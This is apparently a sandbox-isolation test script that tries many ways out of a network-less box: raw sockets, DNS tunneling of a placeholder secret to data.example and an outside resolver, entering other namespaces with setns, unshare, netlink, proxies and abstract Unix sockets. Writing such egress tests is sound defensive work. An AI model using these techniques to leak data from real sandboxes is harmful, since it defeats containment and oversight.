"""Ways out of a network that has none, tried by a program in a box. It prints which of them went somewhere.

Run with the addresses of a host outside and of a service of this machine: `attempts.py 203.0.113.9 4000`.
"""

import ctypes
import errno
import os
import socket
import struct
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path

PATIENCE = 5
LIBC = ctypes.CDLL(None, use_errno=True)
NEW_NETWORK, NEW_USER = 0x40000000, 0x10000000
FAST_OPEN, MPTCP, SCTP, UDPLITE = 0x20000000, 262, 132, 136
FAMILIES = (40, 17, 38, 31, 30, 29, 21, 44)
"""Sockets to the machine around a virtual one, of raw packets, to the kernel's ciphers, by Bluetooth, ..."""
SECRET = "secret-of-the-box"


def main(outside: str, port: int) -> None:
    for name, attempt in _attempts(outside, port):
        try:
            went = attempt()
        except (OSError, ValueError) as problem:
            went = False
            reason = errno.errorcode.get(getattr(problem, "errno", 0) or 0, str(problem))
        else:
            reason = ""
        sys.stdout.write(f"{'REACHED' if went else 'no'} {name} {reason}".strip() + "\n")


def _attempts(outside: str, port: int) -> Iterator[tuple[str, Callable[[], bool]]]:
    for kind, protocol in ((1, 0), (2, 0), (3, 1), (3, 255), (1, MPTCP), (1, SCTP), (2, UDPLITE)):
        yield f"kind {kind} by protocol {protocol}", partial(_says, outside, kind, protocol)
    yield "fast open", lambda: _fast_open(outside)
    for number in FAMILIES:
        yield f"family {number}", partial(_family, number)
    for host in ("127.0.0.1", "127.0.0.53", "0.0.0.0", "::1", "::ffff:127.0.0.1", "localhost", _own_name()):
        yield f"service at {host}", partial(_talks, host, port)
    yield "a name as data", lambda: _resolves(f"{SECRET}.data.example")
    yield "a name by connection", lambda: _asks_by_connection(outside)
    yield "a datagram to a resolver", lambda: _asks_far(outside)
    yield "namespaces of others", _enters_others
    yield "own route", _own_route
    yield "nameless sockets", _nameless
    yield "a proxy to this machine", lambda: _by_proxy(f"127.0.0.1:{port}")
    yield "a proxy to a new host", lambda: _by_proxy(f"{outside}:80")
    yield "the redirected port itself", lambda: _talks("127.0.0.1", 61081)
    yield "own namespace", lambda: _own_namespace(outside)


def _says(host: str, kind: int, protocol: int) -> bool:
    with socket.socket(socket.AF_INET, kind, protocol) as one:
        one.settimeout(PATIENCE)
        one.connect((host, 80))
        one.send(SECRET.encode())
        return bool(one.recv(10))


def _fast_open(host: str) -> bool:
    with socket.socket() as one:
        one.settimeout(PATIENCE)
        one.sendto(SECRET.encode(), FAST_OPEN, (host, 80))
        return bool(one.recv(10))


def _family(number: int) -> bool:
    for kind in (1, 2, 3):
        with suppress(OSError), socket.socket(number, kind):
            return True
    raise OSError(errno.EACCES, "")


def _talks(host: str, port: int) -> bool:
    with socket.create_connection((host, port), PATIENCE) as one:
        one.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return bool(one.recv(10))


def _own_name() -> str:
    return os.uname().nodename


def _resolves(name: str) -> bool:
    """An answer is fine: it is the door's. It must not have asked anybody."""
    return not socket.gethostbyname(name).startswith("198.18.")


def _asks_by_connection(host: str) -> bool:
    question = _question(f"{SECRET}.example")
    with socket.create_connection((host, 53), PATIENCE) as one:
        one.sendall(struct.pack(">H", len(question)) + question)
        return not _is_ours(one.recv(500)[2:])


def _asks_far(host: str) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(PATIENCE)
        one.sendto(_question(f"{SECRET}.example"), (host, 53))
        return not _is_ours(one.recv(500))


def _is_ours(answer: bytes) -> bool:
    return answer[-4:-2] in (b"\xc6\x12", b"\xc6\x13")


def _question(name: str) -> bytes:
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    return struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def _own_namespace(host: str) -> bool:
    if LIBC.unshare(NEW_USER | NEW_NETWORK) < 0:
        raise OSError(ctypes.get_errno(), "")
    return _says(host, 1, 0)


def _enters_others() -> bool:
    own = Path("/proc/self/ns/net").stat().st_ino
    for place in Path("/proc").glob("*/ns/net"):
        with suppress(OSError):
            descriptor = os.open(place, os.O_RDONLY)
            if os.fstat(descriptor).st_ino != own and LIBC.setns(descriptor, NEW_NETWORK) == 0:
                return True
    return False


def _own_route() -> bool:
    """A new device would be a way, if it led anywhere; to make one takes rights that nobody has here."""
    body = struct.pack("BBHiII", 0, 0, 0, 0, 1, 1) + struct.pack("HH", 8, 3) + b"new\0"
    with socket.socket(16, 3, 0) as kernel:
        kernel.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        failed = struct.unpack_from("i", kernel.recv(4096), 16)[0]
    if failed:
        raise OSError(-failed, "")
    return True


def _nameless() -> bool:
    for line in Path("/proc/net/unix").read_text("utf-8", "replace").splitlines():
        name = line.split()[-1]
        if name.startswith("@") and SECRET in name:
            with socket.socket(socket.AF_UNIX) as one, suppress(OSError):
                one.connect("\0" + name[1:])
                return True
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(f"\0{SECRET}")
    return True


def _by_proxy(authority: str) -> bool:
    with socket.create_connection(("127.0.0.1", 61080), PATIENCE) as one:
        one.sendall(f"CONNECT {authority} HTTP/1.1\r\n\r\n".encode())
        return b" 200 " in one.recv(100)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
